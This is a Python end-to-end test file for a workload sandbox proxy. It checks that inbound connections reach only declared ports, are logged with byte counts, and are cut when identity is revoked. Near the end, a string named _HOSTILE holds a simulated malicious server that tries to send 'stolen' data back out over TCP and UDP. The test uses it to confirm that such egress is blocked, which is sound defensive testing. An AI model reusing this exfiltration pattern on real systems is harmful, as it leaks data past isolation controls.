"""Connections into a workload: only at declared ports, each a row with the bytes both ways, and no way out beside them."""

from __future__ import annotations

import ast
import contextlib
import hashlib
import os
import signal
import socket
import subprocess
import threading
from collections.abc import Iterator

import pytest

from tests.stage import Service, Settings, World
from tests.stage.world import AGENT_V4, AGENT_V6, wait_for

pytestmark = pytest.mark.e2e

_WORKLOAD = "identity: {kind: local, groups: [support], purpose: serve}\n"
# What the served program does with a connection: echo what came, then the peer it saw.
_SERVER = """
import socket, sys, threading
def serve(connection, peer):
    with connection:
        while data := connection.recv(65536):
            connection.sendall(data)
        connection.sendall(("|" + peer[0]).encode())
for address in sys.argv[2:]:
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    listener = socket.create_server((address, int(sys.argv[1])), family=family)
    def accept(listener=listener):
        while True:
            threading.Thread(target=serve, args=listener.accept(), daemon=True).start()
    threading.Thread(target=accept, daemon=True).start()
print("up", flush=True)
exec(sys.stdin.read())
threading.Event().wait()
"""


@pytest.fixture(scope="module")
def settings(world: World) -> Settings:
    def ports(*items: str) -> str:
        return _WORKLOAD + "inbound: [" + ", ".join(f"{{{item}, opaque: true}}" for item in items) + "]\n"

    return Settings(
        workloads={
            "web.yaml": ports("port: 8080", f"port: 8081, listen: {AGENT_V4}", f'port: 8082, listen: "{AGENT_V6}"'),
            "quiet.yaml": ports("port: 8090"),
            "shared.yaml": _WORKLOAD + "placement: shared\n",
            "closed.yaml": _WORKLOAD,
        }
    )


@contextlib.contextmanager
def serving(service: Service, port: int, *addresses: str, workload: str = "web", then: str = "") -> Iterator[subprocess.Popen[str]]:
    command = [*service.command, "run", "--workload", workload, "--no-tty", "--", "/usr/bin/python3", "-c", _SERVER, str(port), *addresses]
    pipes = {"stdin": subprocess.PIPE, "stdout": subprocess.PIPE, "stderr": subprocess.STDOUT}
    with subprocess.Popen(command, env=service.environment, cwd="/", text=True, **pipes) as process:  # type: ignore[call-overload]
        try:
            said = []
            for line in process.stdout:  # the launcher's own notes come first
                said.append(line)
                if line == "up\n":
                    break
            assert said[-1:] == ["up\n"], said
            process.stdin.write(then)
            process.stdin.close()
            yield process
        finally:
            process.terminate()
            process.wait(20)


def dial(host: str, port: int) -> socket.socket:
    return socket.create_connection((host, port), timeout=10)


def ask(connection: socket.socket, data: bytes) -> bytes:
    """Send, say that this is all, and return all that comes."""
    with connection:
        connection.sendall(data)
        connection.shutdown(socket.SHUT_WR)
        chunks = []
        while chunk := connection.recv(65536):
            chunks.append(chunk)
    return b"".join(chunks)


def test_a_connection_to_a_declared_port_is_relayed_and_recorded_whole(service: Service) -> None:
    with serving(service, 8080, "127.0.0.1"):
        with dial("127.0.0.1", 8080) as connection:
            peer = "{}:{}".format(*connection.getsockname())
            answer = ask(connection, b"hello")
        assert answer == b"hello|127.0.0.1"
        [row] = service.wait_sql(f"select * from sessions where peer = '{peer}' and closed is not null")
    wanted = {
        "workload": "web", "direction": "inbound", "destination": "127.0.0.1:8080", "transport": "tcp", "protocol": "opaque", "target": "",
        "outcome": "closed", "reason": "closed by both", "bytes_down": 5, "bytes_up": 15, "subject": "web", "statements": 0,
    }  # fmt: skip
    assert wanted.items() <= row.items(), row


@pytest.mark.parametrize(
    ("port", "address", "inside"),
    [(8080, "127.0.0.1", "0.0.0.0"), (8080, "127.0.0.1", "::1"), (8081, AGENT_V4, "0.0.0.0"), (8082, AGENT_V6, "::")],
)
def test_every_family_reaches_the_workload_whatever_it_listens_on(service: Service, port: int, address: str, inside: str) -> None:
    with serving(service, port, inside):
        answer = ask(dial(address, port), b"x")
    assert answer.startswith(b"x|")
    assert answer[2:] in (b"127.0.0.1", b"::1", b"::ffff:127.0.0.1")


def test_a_large_answer_arrives_whole_and_a_slow_reader_holds_it_back(service: Service) -> None:
    data = os.urandom(1 << 20) * 16
    with serving(service, 8080, "127.0.0.1"), dial("127.0.0.1", 8080) as connection:
        sender = threading.Thread(target=connection.sendall, args=(data,))
        sender.start()
        got = hashlib.sha256()
        size = 0
        while size < len(data):
            chunk = connection.recv(1 << 20)
            assert chunk
            got.update(chunk)
            size += len(chunk)
        sender.join(30)
    assert got.digest() == hashlib.sha256(data).digest()


def test_where_nobody_listens_inside_the_connection_is_reset_and_the_row_says_so(service: Service) -> None:
    with serving(service, 9999, "127.0.0.1", workload="quiet"):
        with pytest.raises(ConnectionResetError):
            ask(dial("127.0.0.1", 8090), b"x")
        [row] = service.wait_sql("select reason, bytes_up, bytes_down from sessions where destination = '127.0.0.1:8090' and closed is not null")
    assert row == {"reason": "nobody listens on port 8090 inside the workload", "bytes_up": 0, "bytes_down": 0}


def test_a_port_is_open_at_its_address_only_and_only_while_the_workload_runs(service: Service) -> None:
    with serving(service, 8080, "0.0.0.0") as process:
        dial("127.0.0.1", 8080).close()
        for host, port in ((AGENT_V4, 8080), ("127.0.0.1", 8081), ("127.0.0.1", 9999), (AGENT_V4, 8082)):
            with pytest.raises(ConnectionRefusedError):
                dial(host, port)
        with dial("127.0.0.1", 8080) as live:
            live.sendall(b"x")
            assert live.recv(10) == b"x"
            process.terminate()
            live.settimeout(10)
            assert _ended(live)
    with pytest.raises(ConnectionRefusedError):
        dial("127.0.0.1", 8080)


def test_a_second_run_that_wants_the_same_port_is_refused_and_the_first_goes_on(service: Service) -> None:
    with serving(service, 8080, "127.0.0.1"):
        second = service.launch("true", workload="web")
        assert second.returncode != 0
        assert "inbound port 127.0.0.1:8080: Address already in use" in second.stderr
        assert ask(dial("127.0.0.1", 8080), b"x").startswith(b"x")


def test_an_expired_identity_cuts_what_is_open_and_refuses_what_comes(service: Service) -> None:
    with serving(service, 8080, "127.0.0.1"), dial("127.0.0.1", 8080) as live:
        live.sendall(b"x")
        assert live.recv(10) == b"x"
        service.hostagent("identity", "revoke", "web", "--reason", "test")
        try:
            live.settimeout(30)
            assert _ended(live)
            with pytest.raises(ConnectionError):
                ask(dial("127.0.0.1", 8080), b"x")
            [row] = service.wait_sql("select outcome, reason from recorded.connection where direction = 'inbound' and outcome = 'denied'")
            assert row == {"outcome": "denied", "reason": "no valid identity"}
        finally:
            service.hostagent("identity", "restore", "web")


def test_while_the_proxy_is_dead_dials_are_refused_and_afterwards_served(service: Service) -> None:
    with serving(service, 8080, "127.0.0.1"), dial("127.0.0.1", 8080) as live:
        live.sendall(b"x")
        assert live.recv(10) == b"x"
        os.kill(service.pid("proxyd"), signal.SIGKILL)
        assert _ended(live)
        seen: set[str] = set()

        def served() -> bool:
            try:
                answer = ask(dial("127.0.0.1", 8080), b"x")
            except ConnectionRefusedError:
                seen.add("refused")
                return False
            except ConnectionError:
                return False
            return "refused" in seen and answer.startswith(b"x")

        wait_for(served, "the port to be served again", 30)


@pytest.mark.parametrize("workload", ["closed", "shared"])
def test_a_listener_that_was_not_declared_is_out_of_reach(service: Service, workload: str) -> None:
    with serving(service, 8070, "0.0.0.0", workload=workload):
        for host in ("127.0.0.1", AGENT_V4):
            with pytest.raises(OSError, match=r"refused|No route|timed out"):
                socket.create_connection((host, 8070), timeout=2).close()


# What a hostile server may try with the one channel that is let in: dial back to where the connection came from, to the relay's own
# port inside, send datagrams there, and pass its ends to a child that outlives it.
_HOSTILE = """
import os, socket
def tried(body):
    try:
        body()
        return "done"
    except OSError as error:
        return type(error).__name__
def back(peer):
    found = []
    for address in ((peer[0], peer[1]), (OUTSIDE, PORT), (OUTSIDE, 9), (OUTSIDE6, PORT)):
        family = socket.AF_INET6 if ":" in address[0] else socket.AF_INET
        def tcp():
            with socket.socket(family) as s:
                s.settimeout(3); s.connect(address); s.sendall(b"stolen"); assert s.recv(10) == b"", "answered"
        def udp():
            with socket.socket(family, socket.SOCK_DGRAM) as s:
                s.sendto(b"stolen", address)
        found += [tried(tcp), tried(udp)]
    return found
listener = socket.create_server(("127.0.0.1", 8081))
connection, peer = listener.accept()
# A listener where the relay's end is: it cannot be had while the relay has it, and nothing arrives there anyhow.
squat = tried(lambda: socket.create_server((peer[0], peer[1])).close())
connection.sendall(repr([back(peer), squat]).encode())
connection.close()
"""


def test_a_hostile_server_gets_nothing_out_but_by_the_connection_itself(service: Service, world: World) -> None:
    before = world.sink_lines()
    with socket.create_server((AGENT_V4, 0)) as outside, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        port = outside.getsockname()[1]
        datagrams.bind((AGENT_V4, port))
        then = f"OUTSIDE = {AGENT_V4!r}\nOUTSIDE6 = {AGENT_V6!r}\nPORT = {port}\n{_HOSTILE}"
        with serving(service, 9999, "127.0.0.1", then=then):
            answer, peer = b"", ""

            def answered() -> bool:
                nonlocal answer, peer
                try:
                    connection = dial(AGENT_V4, 8081)
                    peer = "{}:{}".format(*connection.getsockname())
                    answer = ask(connection, b"")
                except ConnectionError:
                    return False
                return True

            wait_for(answered, "the hostile server")
            for each in (outside, datagrams):
                each.setblocking(False)
            with pytest.raises(BlockingIOError):
                outside.accept()
            with pytest.raises(BlockingIOError):
                datagrams.recv(100)
            [row] = service.wait_sql(f"select bytes_up, bytes_down from sessions where peer = '{peer}' and closed is not null")
            [tried, _] = ast.literal_eval(answer.decode())
    # TCP is the leaf's own listener's to refuse; datagrams reach nothing but the leaf's own loopback.
    assert set(tried[2::2]) <= {"done", "ConnectionResetError"}, tried
    assert set(tried[3::2]) == {"PermissionError"}, tried
    assert row == {"bytes_up": len(answer), "bytes_down": 0}
    assert world.sink_lines() == before


def test_an_outsider_at_an_inbound_port_is_never_taken_for_the_leaf(service: Service, world: World) -> None:
    # With a target on loopback at the same port, a dial inside would be redirected to the leaf's own listener.
    target = service.config / "targets" / "local.yaml"
    text = f"protocol: postgres\nhosts: [127.0.0.1]\nport: 8090\ntls: disable\nlogin: {{user: x, credential: {{file: {world.folder}/crm-password}}}}\n"
    try:
        target.write_text(text, encoding="utf-8")
        refused = service.launch("true", workload="quiet")
        assert refused.returncode != 0
        assert "inbound port 8090 is the port of a target on loopback" in refused.stderr
    finally:
        target.unlink()


def _ended(connection: socket.socket) -> bool:
    with contextlib.suppress(ConnectionError):
        while connection.recv(65536):
            pass
    return True
